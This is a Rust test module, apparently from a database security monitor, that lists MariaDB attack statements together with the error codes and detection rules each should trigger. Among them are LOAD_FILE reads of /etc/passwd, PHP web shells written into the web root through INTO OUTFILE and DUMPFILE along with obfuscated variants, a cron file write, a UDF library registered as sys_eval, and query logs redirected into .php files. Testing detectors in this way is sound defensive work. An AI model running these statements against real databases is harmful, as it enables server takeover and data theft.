//! Files by the server: read, written, loaded into it, and logs that become scripts.

use std::path::Path;

use super::{Step, step};
use crate::mariadb_support::client::Ask;
use crate::mariadb_support::server::Server;
use crate::mariadb_support::traffic::DBA;

fn hex(bytes: &[u8]) -> String {
    bytes.iter().map(|byte| format!("{byte:02x}")).collect()
}

/// Files that the server reads and writes.
pub fn files(server: &Server) -> Vec<Step> {
    let dba = (DBA, "shop");
    let web = server.text("www/html");
    let php = "<?php system($_GET[\"c\"]); ?>";
    let one = |name, sql: String, errors, rules| step(name, dba, &[&sql], errors, rules);
    vec![
        one("a file is read", "SELECT LOAD_FILE('/etc/hostname')".to_owned(), &[0], &["load_file"]),
        one(
            "its name in digits",
            format!("SELECT LOAD_FILE(0x{})", hex(b"/etc/passwd")),
            &[0],
            &["load_file"],
        ),
        one(
            "a file becomes rows",
            "LOAD DATA INFILE '/etc/hostname' INTO TABLE posts (content)".to_owned(),
            &[0],
            &["load_data"],
        ),
        one(
            "a web shell",
            format!("SELECT '{php}' INTO OUTFILE '{web}/s.php'"),
            &[0],
            &["outfile", "outfile_script", "outfile_sensitive_path"],
        ),
        one(
            "its bytes in digits",
            format!("SELECT 0x{} INTO DUMPFILE '{web}/h.phtml'", hex(php.as_bytes())),
            &[0],
            &["outfile", "outfile_script", "outfile_sensitive_path"],
        ),
        one(
            "between the lines of another file",
            format!(
                "SELECT 1 INTO OUTFILE '{web}/l.txt' LINES TERMINATED BY 0x{}",
                hex(php.as_bytes())
            ),
            &[0],
            &["outfile", "outfile_script", "outfile_sensitive_path"],
        ),
        one(
            "put together from parts",
            format!("EXECUTE IMMEDIATE CONCAT('SELECT ''x'' INTO OUT', 'FILE ''{web}/i.php''')"),
            &[0],
            &["outfile", "outfile_script", "outfile_sensitive_path"],
        ),
        Step {
            name: "its content as a value",
            account: DBA,
            database: "shop",
            asks: vec![
                Ask::Text(format!("PREPARE w FROM 'SELECT ? INTO DUMPFILE ''{web}/v.jsp'''")),
                Ask::Text(format!("SET @content = '{php}'")),
                Ask::Text("EXECUTE w USING @content".to_owned()),
            ],
            errors: &[0, 0, 0],
            rules: &["outfile", "outfile_script", "outfile_sensitive_path"],
        },
        one(
            "where the server may not",
            "SELECT '* * * * * root id' INTO OUTFILE '/nowhere/etc/cron.d/x'".to_owned(),
            &[1290],
            &["outfile", "outfile_sensitive_path"],
        ),
        one(
            "customers into a file",
            format!("SELECT * FROM customers INTO OUTFILE '{}'", server.text("tmp/c.csv")),
            &[0],
            &["outfile"],
        ),
    ]
}

/// A library for the server, and functions out of it.
pub fn functions(server: &Server, library: &Path) -> Vec<Step> {
    let bytes = hex(&std::fs::read(library).expect("the library"));
    let dba = (DBA, "shop");
    let plugins = server.text("plugin");
    let written = format!("SELECT 0x{bytes} INTO DUMPFILE '{plugins}/helper.so'");
    let stored = format!("INSERT INTO parts VALUES (0x{bytes})");
    let collected =
        format!("SELECT GROUP_CONCAT(part) FROM parts INTO DUMPFILE '{plugins}/parts.so'");
    // `text_truncated` takes every server's limit to be the usual one, 1024 bytes.
    vec![
        step(
            "a library in one statement",
            dba,
            &[&written],
            &[0],
            &["dumpfile_library", "executable_content", "outfile", "text_truncated"],
        ),
        step(
            "a library by a table",
            dba,
            &["CREATE TABLE parts (part LONGBLOB)", &stored, &collected, "DROP TABLE parts"],
            &[0, 0, 0, 0],
            &["drop_table", "dumpfile_library", "executable_content", "outfile", "text_truncated"],
        ),
        step(
            "a function that is not there",
            dba,
            &["CREATE FUNCTION helper RETURNS STRING SONAME 'nosuch.so'"],
            &[1126],
            &["udf_create"],
        ),
        step(
            "a function of a known name",
            dba,
            &["CREATE FUNCTION sys_eval RETURNS INTEGER SONAME 'helper.so'"],
            &[0],
            &["udf_create", "udf_known"],
        ),
        step("it is called", dba, &["SELECT sys_eval('id')"], &[0], &["udf_known"]),
        step(
            "a function of a harmless name",
            dba,
            &[
                "create or replace\n\tfunction /* nothing */ grow returns integer soname 'parts.so'",
                "SELECT grow()",
            ],
            &[0, 0],
            &["udf_create"],
        ),
        step(
            "by the table of functions",
            dba,
            &["INSERT INTO mysql.func VALUES ('shrink', 2, 'helper.so', 'function')"],
            &[0],
            &["udf_table_write"],
        ),
        step("as a plug-in", dba, &["INSTALL SONAME 'helper'"], &[1127], &["plugin_install"]),
    ]
}

/// Logs that become scripts.
pub fn logs(server: &Server) -> Vec<Step> {
    let dba = (DBA, "");
    let web = server.text("www/html");
    let general = format!("SET GLOBAL general_log_file = '{web}/g.php'");
    let slow = format!("SET GLOBAL slow_query_log_file = '{web}/s2.php', slow_query_log = ON");
    vec![
        step(
            "the log of statements in a script",
            dba,
            &[&general],
            &[0],
            &["log_file_redirect", "log_file_script"],
        ),
        step(
            "it is switched on and fed",
            dba,
            &[
                "SET GLOBAL general_log = ON",
                "SELECT '<?php system($_GET[1]); ?>'",
                "SET GLOBAL general_log = OFF",
            ],
            &[0, 0, 0],
            &["general_log_toggle"],
        ),
        step(
            "the log of slow ones",
            dba,
            &[&slow, "SET GLOBAL slow_query_log = OFF"],
            &[0, 0],
            &["general_log_toggle", "log_file_redirect", "log_file_script"],
        ),
    ]
}
